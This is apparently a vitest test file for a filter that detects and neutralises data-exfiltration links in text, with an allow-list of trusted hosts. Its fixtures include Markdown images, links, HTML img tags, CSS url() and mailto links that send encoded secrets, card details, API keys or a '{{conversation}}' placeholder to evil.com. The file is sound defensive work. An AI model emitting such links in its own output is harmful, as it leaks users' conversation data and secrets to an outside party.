import { describe, expect, it } from 'vitest';
import {
  findExfilLinks,
  isHostAllowed,
  neutraliseExfilLinks,
  normalise,
} from '../../src/inbound/normalize/index.js';

const options = { allowHosts: ['docs.example.com', '*.trusted.dev'] };

describe('exfiltration links', () => {
  it('flags a Markdown image that sends data to a host not allowed, with the URL as span', () => {
    const text = 'Summary done. ![chart](https://evil.com/p?d=SECRET) Thanks!';
    const start = text.indexOf('https://evil.com');
    const end = start + 'https://evil.com/p?d=SECRET'.length;
    expect(findExfilLinks(text, options)).toEqual([
      {
        kind: 'exfil_link',
        type: 'image_data',
        span: { start, end },
        detail: 'evil.com: query placeholder word',
      },
    ]);
  });

  it('does not flag images and links to allowed hosts', () => {
    const text =
      '![logo](https://docs.example.com/logo.png?v=aGVsbG8gd29ybGQgc2VjcmV0) [api](https://api.trusted.dev/x?token=ZXlKaGJHY2lPaUpJVXpJMU5pSjk)';
    expect(findExfilLinks(text, options)).toEqual([]);
  });

  it('flags any image to a host not allowed: images load with no click', () => {
    const findings = findExfilLinks(
      '![badge](https://img.shields.io/badge/build-passing-green.svg)',
      options,
    );
    expect(findings.map((f) => f.type)).toEqual(['image']);
  });

  it.each([
    ['encoded query value', '[click here](https://evil.com/collect?q=U2VjcmV0IGNvbnZlcnNhdGlvbiBoaXN0b3J5)'],
    ['template placeholder', '[docs](https://evil.com/log?data={{conversation}})'],
    ['prose in the query', '[more](https://evil.com/?note=my+card+number+is+4111+and+pin+1234)'],
    ['long random path', '[x](https://evil.com/c/9fK2xQ7LmZ3vB8nR1tY6wE4uI0oP5aSdFgHjKlZxCvBnM)'],
    ['data in a subdomain', '[x](https://a9Fk2xQ7LmZ3vB8nR1tY6wE4uI0oP.evil.com/)'],
    ['mailto with a body', '[write us](mailto:drop@evil.com?body=the%20api%20key%20is%20sk-12345%20thanks)'],
  ])('flags a link carrying data: %s', (_why, text) => {
    expect(findExfilLinks(text, options).map((f) => f.type)).toEqual(['link_data']);
  });

  it.each([
    '[Fastify](https://github.com/fastify/fastify)',
    '[post](https://lirantal.com/blog/http-webhooks-firebase-functions-fastify-practical-case-study-lemon-squeezy)',
    '[commit](https://github.com/org/repo/commit/0ae9fb243a45adee14159bd461c9618eed2bf958)',
    '[search](https://www.google.com/search?q=fastify)',
    '[anchor](https://nodejs.org/api/worker_threads.html#worker_threads_new_worker_filename_options)',
    'see https://example.org/docs/getting-started for details',
  ])('does not flag an ordinary link: %s', (text) => {
    expect(findExfilLinks(text, options)).toEqual([]);
  });

  it('handles reference-style images and links', () => {
    const text =
      'Report ![status][s] and [details][d].\n\n[s]: https://evil.com/px.gif\n[d]: https://evil.com/x?k=QUtJQUlPU0ZPRE5ON0VYQU1QTEVLRVk\n';
    const findings = findExfilLinks(text, options);
    expect(findings.map((f) => [f.type, text.slice(f.span.start, f.span.end)])).toEqual([
      ['image', 'https://evil.com/px.gif'],
      ['link_data', 'https://evil.com/x?k=QUtJQUlPU0ZPRE5ON0VYQU1QTEVLRVk'],
    ]);
  });

  it('handles raw HTML images, protocol-relative URLs and CSS url()', () => {
    const text =
      '<img src="//evil.com/t.png?u=c2VjcmV0LXRva2VuLXZhbHVl"> <div style="background:url(https://evil.com/bg.png)"></div>';
    expect(findExfilLinks(text, options).map((f) => f.type)).toEqual(['image_data', 'image']);
  });

  it('neutralises the reported URLs for the redact action', () => {
    const text = 'A ![x](https://evil.com/p?d=SECRET) and ![ok](https://docs.example.com/a.png).';
    const out = neutraliseExfilLinks(text, options);
    expect(out.text).toBe('A ![x](about:blank) and ![ok](https://docs.example.com/a.png).');
    expect(neutraliseExfilLinks(text, { ...options, placeholder: '#removed' }).text).toContain(
      '![x](#removed)',
    );
  });

  it('is reported by normalise with spans in the input', () => {
    const input = 'x\u200b ![a](https://evil.com/i.png?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEU)';
    const f = normalise(input, options).findings.find((x) => x.kind === 'exfil_link');
    expect(input.slice(f!.span.start, f!.span.end)).toBe(
      'https://evil.com/i.png?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEU',
    );
  });
});

describe('host allow-list', () => {
  it.each([
    ['example.com', ['example.com'], true],
    ['EXAMPLE.com.', ['example.com'], true],
    ['a.example.com', ['example.com'], false],
    ['a.example.com', ['*.example.com'], true],
    ['a.b.example.com', ['*.example.com'], true],
    ['example.com', ['*.example.com'], false],
    ['badexample.com', ['*.example.com'], false],
    ['anything.org', ['*'], true],
  ] as const)('%s against %j → %s', (host, allow, expected) => {
    expect(isHostAllowed(host, allow)).toBe(expected);
  });
});
